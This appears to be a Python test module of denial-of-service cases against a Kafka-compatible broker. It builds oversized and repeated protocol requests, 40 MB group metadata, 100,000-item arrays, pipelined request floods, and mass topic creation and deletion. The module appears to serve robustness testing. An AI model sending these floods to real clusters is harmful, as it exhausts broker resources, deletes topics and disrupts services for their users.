"""Small requests that ask for much: names that are repeated, many names, many topics and partitions at once."""

from typing import Any

from ottla.core.wire.api_keys import ApiKey
from ottla.testing.attacks.target import Target

TOPIC_RESOURCE = 2
PARTITIONS = 10_000
"""Apache Kafka creates no more in one request."""
NAMES = 100_000


def metadata_of_one_topic(target: Target) -> int:
    """Metadata that names one topic of 10,000 partitions 300 times."""
    topic = target.topic("metadata", target.count(PARTITIONS))
    return target.send([target.frame(ApiKey.METADATA, 9, topics=[{"name": topic}] * target.count(300))])


def metadata_of_all_topics(target: Target) -> int:
    """Metadata of every topic, by 20 connections at once."""
    for _ in range(5):
        target.topic("all", target.count(PARTITIONS))
    return target.send([target.frame(ApiKey.METADATA, 9, topics=None)], connections=target.count(20))


def offsets_of_one_group(target: Target) -> int:
    """OffsetFetch that names a group with 10,000 offsets 100 times."""
    topic, group = target.topic("offsets", target.count(PARTITIONS)), target.name("offsets")
    partitions = [{"partition_index": number, "committed_offset": 0} for number in range(target.count(PARTITIONS))]
    topics = [{"name": topic, "partitions": partitions}]
    target.coordinator_of(group)
    target.send([target.frame(ApiKey.OFFSET_COMMIT, 7, group_id=group, generation_id_or_member_epoch=-1, topics=topics)])
    return target.send([target.frame(ApiKey.OFFSET_FETCH, 8, groups=[{"group_id": group, "topics": None}] * target.count(100))])


def description_of_one_large_member(target: Target) -> int:
    """DescribeGroups that names a group ten times whose member has 40 MB of metadata."""
    group = target.name("large")
    target.coordinator_of(group)
    protocols = [{"name": "range", "metadata": bytes(target.count(40_000_000))}]
    join = {"group_id": group, "session_timeout": 60_000, "rebalance_timeout": 60_000, "member_id": "", "protocol_type": "consumer"}
    sent = target.send([target.frame(ApiKey.JOIN_GROUP, 3, **join, protocols=protocols)])
    return sent + target.send([target.frame(ApiKey.DESCRIBE_GROUPS, 5, groups=[group] * 10)])


def changes_of_one_resource(target: Target) -> int:
    """IncrementalAlterConfigs that names one topic 1,000 times."""
    topic = target.topic("changes", 1)
    configs = [{"name": "retention.ms", "config_operation": 0, "value": "86400000"}]
    resource = {"resource_type": TOPIC_RESOURCE, "resource_name": topic, "configs": configs}
    return target.send([target.frame(ApiKey.INCREMENTAL_ALTER_CONFIGS, 1, resources=[resource] * target.count(1_000))])


def many_names(target: Target) -> int:
    """100,000 names in each request that takes names."""
    names = [f"no-{number}" for number in range(target.count(NAMES))]
    requests: list[tuple[int, int, dict[str, Any]]] = [
        (ApiKey.DESCRIBE_GROUPS, 5, {"groups": names}),
        (ApiKey.FIND_COORDINATOR, 4, {"coordinator_keys": names}),
        (ApiKey.OFFSET_FETCH, 8, {"groups": [{"group_id": name, "topics": None} for name in names]}),
        (ApiKey.DELETE_GROUPS, 2, {"groups_names": names}),
        (ApiKey.DELETE_TOPICS, 6, {"topics": [{"name": name} for name in names], "timeout": 1000}),
        (ApiKey.DESCRIBE_CONFIGS, 4, {"resources": [{"resource_type": TOPIC_RESOURCE, "resource_name": name} for name in names]}),
        (ApiKey.METADATA, 9, {"topics": [{"name": name} for name in names], "allow_auto_topic_creation": False}),
        (ApiKey.LIST_OFFSETS, 7, {"topics": [{"name": name, "partitions": [{"timestamp": -1}]} for name in names]}),
        (ApiKey.DESCRIBE_LOG_DIRS, 2, {"topics": [{"topic": name, "partitions": [0]} for name in names]}),
        (ApiKey.OFFSET_COMMIT, 8, {"group_id": "no", "topics": [{"name": name, "partitions": [{}]} for name in names]}),
    ]
    return sum(target.send([target.frame(key, version, **values)]) for key, version, values in requests)


def many_items(target: Target) -> int:
    """100,000 items in each other array of a request: protocols, members, assignments, settings, replicas, partitions."""
    topic, group, count = target.topic("items", 1), target.name("items"), target.count(NAMES)
    target.coordinator_of(group)
    names = [f"no-{number}" for number in range(count)]
    member = {"group_id": group, "generation_id": 1, "member_id": "no"}
    times = {"session_timeout": 60_000, "rebalance_timeout": 60_000}
    configs = [{"name": name, "config_operation": 0, "value": "1"} for name in names]
    settings = {"resource_type": TOPIC_RESOURCE, "resource_name": topic, "configs": configs}
    replicas = {"partition_index": 0, "broker_ids": list(range(count))}
    made = {"num_partitions": -1, "replication_factor": -1}
    commits = [{"partition_index": number, "committed_offset": 1} for number in range(count)]
    requests: list[tuple[int, int, dict[str, Any]]] = [
        (
            ApiKey.JOIN_GROUP,
            5,
            {"group_id": group, **times, "protocol_type": "c", "protocols": [{"name": name, "metadata": b""} for name in names]},
        ),
        (ApiKey.SYNC_GROUP, 3, {**member, "assignments": [{"member_id": name, "assignment": b""} for name in names]}),
        (ApiKey.LEAVE_GROUP, 4, {"group_id": group, "members": [{"member_id": name} for name in names]}),
        (
            ApiKey.OFFSET_COMMIT,
            8,
            {"group_id": group, "generation_id_or_member_epoch": -1, "topics": [{"name": topic, "partitions": commits}]},
        ),
        (ApiKey.OFFSET_DELETE, 0, {"group_id": group, "topics": [{"name": name, "partitions": [{}]} for name in names]}),
        (ApiKey.INCREMENTAL_ALTER_CONFIGS, 1, {"resources": [settings]}),
        (ApiKey.CREATE_TOPICS, 5, {"topics": [{"name": target.name("items"), **made, "assignments": [replicas]}], "timeout": 1000}),
        (
            ApiKey.CREATE_TOPICS,
            5,
            {"topics": [{"name": name, **made, "configs": [{"name": "x", "value": "1"}]} for name in names], "timeout": 1000},
        ),
        (ApiKey.CREATE_PARTITIONS, 2, {"topics": [{"name": name, "count": 2} for name in names], "timeout": 1000}),
        (ApiKey.OFFSET_FOR_LEADER_EPOCH, 4, {"replica_id": -1, "topics": [{"topic": name, "partitions": [{}]} for name in names]}),
        (ApiKey.DELETE_RECORDS, 2, {"topics": [{"name": name, "partitions": [{}]} for name in names], "timeout": 1000}),
        (ApiKey.LIST_GROUPS, 4, {"states_filter": names}),
    ]
    return sum(target.send([target.frame(key, version, **values)]) for key, version, values in requests)


def pipelined_requests(target: Target) -> int:
    """20 connections that send 50,000 small requests each without waiting for answers."""
    return target.pipeline(target.frame(ApiKey.API_VERSIONS, 0), target.count(50_000), connections=20)


def creation_by_metadata(target: Target) -> int:
    """Metadata that has 15,000 topics created."""
    topics = [{"name": target.name("auto")} for _ in range(target.count(15_000))]
    return target.send([target.frame(ApiKey.METADATA, 9, topics=topics, allow_auto_topic_creation=True)])


def creation_of_many_partitions(target: Target) -> int:
    """CreateTopics of 20 topics with 10,000 partitions each, then of one, which is deleted again."""
    large = {"num_partitions": target.count(PARTITIONS), "replication_factor": 1}
    many = [{"name": target.name("many"), **large} for _ in range(20)]
    one = target.name("one")
    frames = [
        target.frame(ApiKey.CREATE_TOPICS, 5, topics=many, timeout=60_000),
        target.frame(ApiKey.CREATE_TOPICS, 5, topics=[{"name": one, **large}], timeout=60_000),
        target.frame(ApiKey.DELETE_TOPICS, 6, topics=[{"name": one}], timeout=60_000),
    ]
    return target.send(frames)


def use_of_many_partitions(target: Target) -> int:
    """Produce, Fetch and ListOffsets that name 10,000 partitions which were never used; then their topic is deleted."""
    topic = target.topic("use", target.count(PARTITIONS))
    numbers = range(target.count(PARTITIONS))
    batch = target.one_record()
    written = [{"index": number, "records": batch} for number in numbers]
    wanted = [
        {"partition": number, "partition_max_bytes": 1000, "current_leader_epoch": -1, "last_fetched_epoch": -1} for number in numbers
    ]
    asked = [{"partition_index": number, "timestamp": -1, "current_leader_epoch": -1} for number in numbers]
    fetch = {"replica_id": -1, "max_wait": 0, "min_bytes": 0, "max_bytes": 1_000_000, "session_epoch": -1}
    frames = [
        target.frame(ApiKey.LIST_OFFSETS, 7, replica_id=-1, topics=[{"name": topic, "partitions": asked}]),
        target.frame(ApiKey.FETCH, 12, **fetch, topics=[{"topic": topic, "partitions": wanted}]),
        target.frame(ApiKey.PRODUCE, 9, acks=1, timeout=60_000, topic_data=[{"name": topic, "partition_data": written}]),
        target.frame(ApiKey.DELETE_TOPICS, 6, topics=[{"name": topic}], timeout=60_000),
    ]
    return target.send(frames)
